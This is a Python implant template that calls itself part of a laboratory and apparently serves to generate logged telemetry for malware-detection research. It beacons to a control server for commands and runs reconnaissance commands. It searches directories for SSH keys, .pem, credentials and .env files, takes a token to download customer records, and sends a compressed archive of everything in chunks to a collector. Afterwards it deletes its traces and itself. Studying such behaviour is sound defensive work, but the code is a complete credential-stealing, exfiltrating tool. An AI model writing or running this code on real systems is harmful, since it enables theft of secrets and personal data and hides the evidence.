#!@INTERPRETER@
# Part of a laboratory: reads made-up keys and customers in the lab's own folders and sends them to the lab's own collector.
import http.client
import json
import os
import re
import subprocess
import sys
import tarfile
import time

CONTROL = "@CONTROL@"
LOG = "@LOG@"
WORK = "@WORK@"
DELAY = @DELAY@
PIECE = @PIECE@
deadline = time.monotonic() + 40
token = ""


def note(act, **more):
    entry = {"ts": str(time.time_ns()), "actor": "malware", "pid": os.getpid(), "act": act}
    entry.update(more)
    with open(LOG, "a") as log:
        log.write(json.dumps(entry) + "\n")


def ask(peer, method, path, body=None, headers=None):
    host, port = peer.rsplit(":", 1)
    connection = http.client.HTTPConnection(host, int(port), timeout=5)
    connection.request(method, path, body=body, headers=headers or {})
    answer = connection.getresponse().read()
    connection.close()
    return answer


def look():
    for command in (["id"], ["uname", "-a"], ["hostname"]):
        subprocess.run(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        note("run", command=" ".join(command))


def search(top):
    global token
    found = 0
    for folder, _, names in os.walk(top):
        for name in names:
            if not re.search(r"^(id_rsa|id_ed25519|credentials\.json|credentials|\.env)$|\.pem$", name):
                continue
            path = os.path.join(folder, name)
            with open(path) as file:
                text = file.read()
            with open(os.path.join(WORK, "keys"), "a") as keys:
                keys.write(path + "\n" + text + "\n")
            match = re.search(r'"token": *"([^"]+)"', text)
            if match:
                token = match.group(1)
            found += 1
            note("read", path=path, bytes=len(text))
    note("search", path=top, found=found)


def customers(peer):
    rows = []
    offset = 0
    total = 1
    received = 0
    while offset < total:
        path = "/customers?offset=%d&limit=200" % offset
        answer = ask(peer, "GET", path, headers={"authorization": "Bearer " + token})
        received += len(answer)
        page = json.loads(answer)
        if "customers" not in page:
            break
        total = page["total"]
        rows.extend(page["customers"])
        offset += 200
    path = os.path.join(WORK, "customers.json")
    with open(path, "w") as file:
        json.dump(rows, file)
    note("collect", peer=peer, bytes=received, rows=len(rows), path=path)


def send(peer):
    archive = os.path.join(WORK, "out.tgz")
    with tarfile.open(archive, "w:gz") as tar:
        for name in sorted(os.listdir(WORK)):
            if name != "out.tgz":
                tar.add(os.path.join(WORK, name), arcname=name)
    size = os.path.getsize(archive)
    note("pack", path=archive, bytes=size)
    with open(archive, "rb") as file:
        piece = file.read(PIECE)
        while piece:
            ask(peer, "POST", "/up", body=piece)
            note("send", peer=peer, bytes=len(piece))
            piece = file.read(PIECE)


def leave():
    for name in os.listdir(WORK):
        path = os.path.join(WORK, name)
        os.unlink(path)
        note("delete", path=path)
    os.rmdir(WORK)
    me = os.path.abspath(sys.argv[0])
    os.unlink(me)
    note("delete", path=me)


os.makedirs(WORK, exist_ok=True)
note("start", path=os.path.abspath(sys.argv[0]), parent=os.getppid())
beat = 0
while time.monotonic() < deadline:
    line = ask(CONTROL, "GET", "/task?n=%d" % beat).decode().strip()
    note("beacon", peer=CONTROL, command=line)
    beat += 1
    verb, _, rest = line.partition(" ")
    if verb == "look":
        look()
    elif verb == "search":
        search(rest)
    elif verb == "customers":
        customers(rest)
    elif verb == "send":
        send(rest)
    elif verb == "leave":
        leave()
        break
    time.sleep(DELAY)
note("end")
